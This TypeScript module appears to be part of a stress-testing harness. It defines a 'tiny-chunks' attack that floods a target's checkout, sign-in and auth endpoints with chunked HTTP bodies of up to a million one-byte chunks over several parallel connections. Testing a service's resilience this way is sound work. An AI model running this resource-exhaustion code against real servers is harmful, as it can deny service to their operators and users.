import type { Attack } from './attack';
import { Connection, countStatuses } from './connection';

const CHUNK = '1\r\n \r\n';
const PIECE_CHUNKS = 5_000;
const PATHS = ['/api/checkout/quote', '/api/auth/callback/credentials', '/sign-in', '/api/no-such'];

const head = (path: string) =>
  [
    `POST ${path} HTTP/1.1`,
    'Host: localhost',
    'Content-Type: application/json',
    'Transfer-Encoding: chunked',
    '\r\n',
  ].join('\r\n');

/** Bodies in chunks of one byte each, to endpoints and pages that anybody may call. */
export const tinyChunks: Attack = {
  name: 'tiny-chunks',
  summary: 'Sends request bodies in chunks of one byte.',
  async run(target, { scale, signal }) {
    const chunks = scale === 'short' ? 200_000 : 1_000_000;
    const rounds = scale === 'short' ? 1 : 10;
    const piece = CHUNK.repeat(PIECE_CHUNKS);
    const all: Connection[] = [];
    let taken = 0;
    for (let round = 0; round < rounds && !signal.aborted; round++) {
      const connections = await Promise.all(
        Array.from({ length: 8 }, async (_, at) => {
          const connection = await Connection.open(target);
          await connection.write(head(PATHS[at % PATHS.length] ?? '/'));
          for (let sent = 0; sent < chunks && !signal.aborted; sent += PIECE_CHUNKS) {
            if (!(await connection.write(piece))) break;
            taken += PIECE_CHUNKS;
          }
          await connection.write('0\r\n\r\n');
          await connection.ended(20_000, signal);
          return connection;
        }),
      );
      for (const connection of connections) connection.close();
      all.push(...connections);
    }
    return `${countStatuses(all)}; ${taken} chunks were sent`;
  },
};
